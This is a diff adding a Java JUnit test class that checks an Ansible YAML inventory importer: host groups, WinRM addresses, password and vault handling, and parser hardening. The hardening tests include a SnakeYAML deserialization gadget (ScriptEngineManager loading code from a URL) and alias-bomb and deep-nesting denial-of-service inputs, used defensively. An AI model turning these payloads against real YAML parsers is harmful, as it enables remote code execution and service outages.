@@ -1,0 +1,122 @@
+package org.ipsecworkbench.hostconnection.known;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.time.Duration;
+import java.util.List;
+import org.ipsecworkbench.hostconnection.AuthenticationMethod;
+import org.junit.jupiter.api.Test;
+
+class YamlInventoryTest {
+    private static List<String> names(HostImport.Result read) {
+        return read.hosts().stream().map(KnownHost::name).toList();
+    }
+
+    @Test
+    void groupsAndTheirVariables() {
+        HostImport.Result read = HostImport.parse("""
+                # Windows and others
+                all:
+                  vars:
+                    ansible_user: nobody
+                  hosts:
+                    lonely:
+                      ansible_host: 192.0.2.9
+                      ansible_port: 5985
+                  children:
+                    servers:
+                      vars: {ansible_user: admin@LAB.EXAMPLE, ansible_winrm_transport: ntlm}
+                      children:
+                        windows:
+                          hosts:
+                            srv[08:10].example:
+                            special: {ansible_host: "2001:db8::5", ansible_user: 'LAB\\other', ansible_winrm_transport: kerberos}
+                    berlin:
+                      hosts:
+                        srv09.example:
+                    linux:
+                      hosts:
+                        box: {ansible_connection: ssh}
+                """);
+        assertEquals(List.of("lonely", "srv08.example", "srv09.example", "srv10.example", "special"), names(read));
+        assertEquals("winrm://192.0.2.9:5985", read.hosts().get(0).address().toString());
+        assertEquals("nobody", read.hosts().get(0).user());
+        assertEquals("", read.hosts().get(0).group());
+        KnownHost second = read.hosts().get(2);
+        assertEquals("winrms://srv09.example:5986", second.address().toString());
+        assertEquals("windows", second.group());
+        assertEquals(List.of("berlin"), second.tags());
+        assertEquals("admin@LAB.EXAMPLE", second.user());
+        assertEquals(AuthenticationMethod.NTLM, second.method());
+        KnownHost special = read.hosts().get(4);
+        assertEquals("winrms://[2001:db8::5]:5986", special.address().toString());
+        assertEquals("LAB\\other", special.user());
+        assertEquals(AuthenticationMethod.KERBEROS, special.method());
+        assertEquals(1, read.problems().size(), read.problems().toString());
+        assertTrue(read.problems().get(0).contains("box is not reached by WinRM (ssh)"));
+    }
+
+    @Test
+    void passwordsAndVaultsAreNotTaken() {
+        HostImport.Result read = HostImport.parse("""
+                all:
+                  hosts:
+                    a: {ansible_user: alice, ansible_password: geheim}
+                    b:
+                      ansible_user: bob
+                      ansible_password: !vault |
+                        $ANSIBLE_VAULT;1.1;AES256
+                        6162
+                """);
+        assertEquals("alice", read.hosts().get(0).user());
+        assertEquals("bob", read.hosts().get(1).user());
+        assertTrue(read.problems().toString().contains("Passwords are not taken"));
+        assertFalse(read.toString().contains("geheim"));
+    }
+
+    @Test
+    void whatStandsBeforeDamageIsKeptAndItsLineTold() {
+        HostImport.Result read = HostImport.parse("all:\n  hosts:\n    a:\n    b:\n    c:\n\t  d: x\n");
+        assertEquals(List.of("a", "b"), names(read));
+        assertTrue(
+                read.problems().get(0).startsWith("line 6: "), read.problems().toString());
+    }
+
+    @Test
+    void aliasesAreNotFollowed() {
+        HostImport.Result read = HostImport.parse("all:\n  hosts:\n    a: &v {ansible_user: x}\n    b: *v\n");
+        assertEquals(List.of("a", "b"), names(read));
+        assertEquals("", read.hosts().get(1).user());
+        assertTrue(
+                read.problems().get(0).startsWith("line 4: Aliases"),
+                read.problems().toString());
+    }
+
+    @Test
+    void noObjectIsMade() {
+        HostImport.Result read = HostImport.parse(
+                "all:\n  hosts:\n    a: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1/\"]]\n");
+        assertEquals(List.of("a"), names(read));
+    }
+
+    @Test
+    void boundlessFilesAreBounded() {
+        StringBuilder laughs = new StringBuilder("a0: &a0 {hosts: {x: }}\n");
+        for (int i = 1; i < 1000; i++) {
+            laughs.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ",").repeat(9) + "]\n");
+        }
+        String deep = "all: " + "[".repeat(200_000);
+        String deepGroups = "{hosts: {h: }, children: {g: ".repeat(2000);
+        String wide = "all:\n  hosts:\n" + "    a[0:999999][0:999999]:\n    b[0:99999]:\n".repeat(200);
+        String many = "all:\n  hosts:\n" + "    \"h\": {}\n".repeat(300_000);
+        for (String text : List.of(laughs.toString(), deep, "all: " + deepGroups, wide, many)) {
+            HostImport.Result read = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> HostImport.parse(text));
+            assertTrue(read.hosts().size() <= KnownHosts.MAX_HOSTS);
+            assertFalse(read.problems().isEmpty());
+            assertTrue(read.problems().size() <= 102);
+        }
+    }
+}
